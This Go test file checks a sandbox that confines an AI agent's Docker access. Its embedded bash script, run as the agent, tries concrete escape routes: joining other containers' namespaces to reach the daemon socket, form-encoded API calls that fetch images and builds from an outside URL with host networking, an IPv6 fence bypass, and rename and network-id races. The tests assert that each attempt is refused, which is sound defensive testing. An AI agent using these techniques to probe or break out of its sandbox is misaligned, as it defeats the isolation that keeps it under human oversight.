package sandboxinit_test

import (
	"context"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/sandbox-bot/sandbox-bot/dispatch"
	"github.com/sandbox-bot/sandbox-bot/dispatch/docker/dockertest"
	"github.com/sandbox-bot/sandbox-bot/dispatch/sandboxcfg"
	"github.com/sandbox-bot/sandbox-bot/testkit/testenv"
)

// fakeSupabase stands in for the Supabase CLI in the sandbox (the --local
// image has none): it does with Docker what the real CLI does that matters
// here. `init` writes a config.toml with analytics on, as the CLI's
// template does; `start` runs the stack's database and, when analytics is
// on (config.toml, or SUPABASE_ANALYTICS_ENABLED over it), the log
// collector "vector" with the Docker socket of DOCKER_HOST (the daemon's
// default socket without it) bound at /var/run/docker.sock, read-only and
// with label:disable, as the CLI's start does. With
// FAKE_SUPABASE_IGNORE_CONFIG=1 it starts vector whatever the
// configuration says (a CLI that changed its mind).
const fakeSupabase = `#!/bin/bash
set -eu
cmd=$1; shift
dir=.
while [ $# -gt 0 ]; do case "$1" in --workdir) dir=$2; shift ;; esac; shift; done
cfg="$dir/supabase/config.toml"
case "$cmd" in
init)
	mkdir -p "$dir/supabase"
	printf '[api]\nport = 54321\n\n[analytics]\nenabled = true\nport = 54327\nbackend = "postgres"\n\n[db]\nport = 54322\n' >"$cfg" ;;
start)
	analytics=$(awk '/^\[/{s=$0} s=="[analytics]" && $1=="enabled"{print $3}' "$cfg")
	analytics=${SUPABASE_ANALYTICS_ENABLED:-$analytics}
	[ "${FAKE_SUPABASE_IGNORE_CONFIG:-}" = 1 ] && analytics=true
	sock=/var/run/docker.sock
	case "${DOCKER_HOST:-}" in unix://*) sock=${DOCKER_HOST#unix://} ;; esac
	docker run -d --name supabase_db_fake sandbox-test/svc:1 >/dev/null
	if [ "$analytics" = true ]; then
		docker run -d --name supabase_vector_fake -v "$sock:/var/run/docker.sock:ro" --security-opt label:disable sandbox-test/svc:1 >/dev/null
	fi ;;
status)
	echo '{"API_URL":"http://127.0.0.1:54321","DB_URL":"postgresql://postgres:postgres@127.0.0.1:54322/postgres","ANON_KEY":"anon"}' ;;
esac
`

// boundaryScript runs as the agent. It prints "RESULT <name> rc=<code> ::
// <answer>" per attempt, like agentScript.
const boundaryScript = `
set -u
try() {
	local name=$1; shift
	local out rc
	out=$("$@" 2>&1 </dev/null); rc=$?
	local line
	line=$(grep -m1 -e 'sandbox docker filter' -e 'No such container' <<<"$out" || true)
	[ -n "$line" ] || line=$(tr '\n' ' ' <<<"$out" | cut -c1-300)
	echo "RESULT $name rc=$rc :: $line"
}
# A small image with the docker CLI in it: what a container that reaches a
# daemon socket needs to use it.
bins="/bin/sh /bin/cat /bin/true /bin/ls /usr/bin/docker"
libs=$(ldd $bins 2>/dev/null | grep -o '/[^ ]*' | sort -u)
tar -chf - $bins $libs 2>/dev/null | docker import - sandbox-test/tools:1 >/dev/null
tools=sandbox-test/tools:1
svc=sandbox-test/svc:1
api() {
	local code
	code=$(curl -sS -o /tmp/api.out -w '%{http_code}' --unix-socket /run/sandbox/docker.sock "$@")
	cat /tmp/api.out; echo " http=$code"
	[ "${code:0:1}" = 2 ]
}
echo "CONTAINERS $(docker ps -a --format '{{.Names}}' | sort | tr '\n' ' ')"

# Namespaces of containers the agent did not create: the service, the
# Supabase stack's database and its log collector (when there is one).
for target in svc supabase_db_fake supabase_vector_fake; do
	try "pid-$target" docker run --rm --pid "container:$target" $tools ls -l /proc/1/root/var/run/docker.sock
	try "ipc-$target" docker run --rm --ipc "container:$target" $tools true
	try "net-$target" docker run --rm --network "container:$target" $tools true
	# The docker CLI knows no --uts container:, the API does.
	try "uts-$target" api -X POST -H 'Content-Type: application/json' --data '{"Image":"sandbox-test/tools:1","HostConfig":{"UTSMode":"container:'"$target"'"}}' http://d/v1.41/containers/create
done
# The reproduction: what pid-supabase_vector_fake hands over when it works.
try use-vector-socket docker run --rm --pid container:supabase_vector_fake $tools docker -H unix:///proc/1/root/var/run/docker.sock ps -q

# The agent's own container: its namespaces are the agent's to join.
docker run -d --name own --ipc shareable $svc >/dev/null
try pid-own docker run --rm --pid container:own $tools ls /proc/1/root/
try net-own docker run --rm --network container:own --ipc container:own $tools true

# Parameters in a form-encoded body, which dockerd reads as it reads the
# query: an import from a URL, a build from a remote context with the
# host's network. The same in the query.
try form-import api -X POST -H 'Content-Type: application/x-www-form-urlencoded' --data "fromSrc=$LISTENER/import.tar&repo=evil&tag=1" http://d/v1.41/images/create
try form-build api -X POST -H 'Content-Type: application/x-www-form-urlencoded; charset=utf-8' --data "remote=$LISTENER/context.tar&networkmode=host&t=evil" http://d/v1.41/build
try query-import api -X POST "http://d/v1.41/images/create?fromSrc=$LISTENER/import.tar&repo=evil"
try query-build api -X POST "http://d/v1.41/build?remote=$LISTENER/context.tar&networkmode=host"

# An IPv6 network in a sandbox that fenced IPv4 only.
try ipv6-network docker network create --ipv6 --subnet fd00:5a4d:b0c5::/64 v6net
try ipv4-network docker network create --subnet 172.31.250.0/24 v4net

# The rename race (issue 29): a join is checked by name when the joining
# container is created, and resolved by the engine again. The service
# must not be renamable (its name is what later requests resolve; the
# agent would rename its own container away and the service to its name
# between the filter's check and the engine's look-up).
try race-rename-svc docker rename svc svc-renamed
docker rename svc-renamed svc >/dev/null 2>&1
docker run -d --name joined -e WHO=agent-own $svc >/dev/null
# A joiner started after its target was renamed away is in the target's
# namespaces (WHO=agent-own in its pid 1's environment), never in those of
# whatever holds the name by then.
try race-create docker create --name joiner --pid container:joined --network container:joined $tools cat /proc/1/environ
try race-rename-own docker rename joined joined-moved
try race-start bash -c 'docker start -a joiner | tr "\0" " "'
# A service's networks are not the agent's to change; its own container's
# are.
try connect-svc docker network connect v4net svc
try connect-own docker network connect v4net joined-moved
# The same shape with a network: a bridge network named like the start of
# the host network's id, used, removed, and the container started, when
# the engine would find the host network by that prefix.
hostnet=$(docker network inspect -f '{{.Id}}' host)
try netpfx-network docker network create "${hostnet:0:12}"
try netpfx-create docker create --name netpfx --network "${hostnet:0:12}" $tools cat /proc/net/dev
try netpfx-rm docker network rm "${hostnet:0:12}"
try netpfx-start bash -c 'docker start -a netpfx | tail -n +3 | cut -d: -f1 | tr -s " \n" " "' 
echo DONE
`

// supabaseArgs are the sandbox's arguments with a service, the Supabase
// stand-in on PATH and supabase: true.
func supabaseArgs(t *testing.T, profile []string, out string) []string {
	t.Helper()
	cache := cachedService(t)
	order := writeOrder(t, t.TempDir(), sandboxcfg.Config{Supabase: true, Services: map[string]sandboxcfg.Service{
		"svc": {Image: dockertest.ServiceImageRef, Ports: []int{8080}},
	}})
	cli := filepath.Join(t.TempDir(), "supabase")
	if err := os.WriteFile(cli, []byte(fakeSupabase), 0o755); err != nil {
		t.Fatal(err)
	}
	return append(sandboxArgsIn(t, profile, order, out, cache), "--rm", "--env", "SANDBOX_LOG_LEVEL=warn",
		"--mount", "type=bind,source="+cli+",target=/usr/local/bin/supabase,readonly")
}

// The agent's Docker against containers it did not create, in a real
// sandbox with a service and the Supabase stand-in: it joins none of their
// pid, ipc, network or uts namespaces (the log collector's pid namespace
// would hand it the daemon's real socket), while its own containers' are
// its to join; no container holds the daemon's socket (Supabase's
// analytics is off); parameters in a form-encoded body never reach the
// daemon (the listener the URLs name sees no connection); an IPv6
// network is refused where only IPv4 is fenced; and a join checked by
// name stays with the container checked when names move before the start
// (the service cannot be renamed; the join is pinned to the id). In the
// caps profile and behind gVisor.
func TestAgentDockerBoundary(t *testing.T) {
	if testing.Short() {
		t.Skip("runs a sandbox with a service and the Supabase stand-in; skipped under -short")
	}
	dockertest.ForEachProfile(t, agentDockerBoundary)
}

func agentDockerBoundary(t *testing.T, iso dispatch.Isolation) {
	img := testenv.SandboxImage(t)
	hostPort, conns := dockertest.ConnCounter(t)
	listener := "http://" + hostPort
	out := t.TempDir()
	args := append(supabaseArgs(t, dockertest.Profile(t, iso), out), "--env", "LISTENER="+listener, img, "--", "bash", "-c", boundaryScript)
	ctx, cancel := context.WithTimeout(context.Background(), 8*time.Minute)
	defer cancel()
	raw, err := exec.CommandContext(ctx, "docker", args...).CombinedOutput()
	logs := string(raw)
	if err != nil || !strings.Contains(logs, "\nDONE") {
		t.Fatalf("sandbox: %v\n%s", err, logs)
	}
	results := map[string]string{}
	for _, l := range strings.Split(logs, "\n") {
		if rest, ok := strings.CutPrefix(l, "RESULT "); ok {
			name, v, _ := strings.Cut(rest, " ")
			results[name] = v
		}
	}
	var containers string
	for _, l := range strings.Split(logs, "\n") {
		if rest, ok := strings.CutPrefix(l, "CONTAINERS "); ok {
			containers = " " + rest
		}
	}
	if !strings.Contains(containers, " svc ") || !strings.Contains(containers, " supabase_db_fake ") || strings.Contains(containers, "vector") {
		t.Errorf("containers %q: want the service and the stand-in's database, and no log collector", containers)
	}
	refused := map[string]string{"use-vector-socket": "there is no container supabase_vector_fake"}
	modes := map[string]string{"pid": "PidMode", "ipc": "IpcMode", "net": "NetworkMode", "uts": "UTSMode"}
	for ns, mode := range modes {
		for _, target := range []string{"svc", "supabase_db_fake"} {
			refused[ns+"-"+target] = "HostConfig." + mode + "=container:" + target + " is refused: the agent did not create that container"
		}
		// There is no log collector: the filter says so.
		refused[ns+"-supabase_vector_fake"] = "there is no container supabase_vector_fake"
	}
	refused["form-import"] = "a body of type application/x-www-form-urlencoded on POST /v1.41/images/create is refused"
	refused["form-build"] = "a body of type application/x-www-form-urlencoded on POST /v1.41/build is refused"
	refused["query-import"] = "docker import from a URL is refused"
	refused["query-build"] = "refused"
	refused["ipv6-network"] = "network EnableIPv6 is refused"
	refused["race-rename-svc"] = "renaming container svc is refused: the agent did not create it"
	refused["connect-svc"] = "connecting or disconnecting container svc is refused"
	for name, want := range refused {
		got, ok := results[name]
		switch {
		case !ok:
			t.Errorf("%s: not tried", name)
		case strings.HasPrefix(got, "rc=0 "):
			t.Errorf("%s: allowed: %s", name, got)
		case !strings.Contains(got, want):
			t.Errorf("%s: answer %q lacks %q", name, got, want)
		}
	}
	for _, name := range []string{"pid-own", "net-own", "ipv4-network", "race-create", "race-rename-own", "race-start", "connect-own"} {
		if got := results[name]; !strings.HasPrefix(got, "rc=0 ") {
			t.Errorf("%s: the agent's own use failed: %q", name, got)
		}
	}
	if got := results["race-start"]; !strings.Contains(got, "WHO=agent-own") {
		t.Errorf("race-start: the joiner is not in the agent's own container's namespaces: %q", got)
	}
	if got := results["netpfx-start"]; strings.Contains(got, "docker0") {
		t.Errorf("netpfx-start: a container reached the host network through an id prefix: %q", got)
	}
	if n := conns.Load(); n != 0 {
		t.Errorf("the daemon connected to the listener %d times: a URL in a request's parameters was fetched", n)
	}
	if t.Failed() {
		t.Logf("sandbox output:\n%s", logs)
	}
}

// Whatever starts a container holding the daemon's socket (here a Supabase
// CLI that starts its log collector whatever config.toml says), the
// sandbox does not start, and its receipt names the container.
func TestNoContainerHoldsTheDaemonSocket(t *testing.T) {
	if testing.Short() {
		t.Skip("runs a sandbox; skipped under -short")
	}
	img := testenv.SandboxImage(t)
	out := t.TempDir()
	args := append(supabaseArgs(t, capsProfile, out), "--env", "FAKE_SUPABASE_IGNORE_CONFIG=1", img, "--", "touch", "/sandbox/out/runner-ran")
	logs, err := dockerRun(t, args...)
	if ee, ok := err.(*exec.ExitError); !ok || ee.ExitCode() != 3 {
		t.Fatalf("exit = %v, want 3 (sandbox start failed)\n%s", err, logs)
	}
	if _, err := os.Stat(filepath.Join(out, "runner-ran")); err == nil {
		t.Error("the runner ran beside a container holding the daemon's socket")
	}
	r := readResult(t, out)
	if r.Status != dispatch.StatusFailed || r.Error == nil || !strings.Contains(r.Error.Message, "container supabase_vector_fake binds /var/run/docker.sock") {
		t.Errorf("receipt = %+v", r.Error)
	}
}
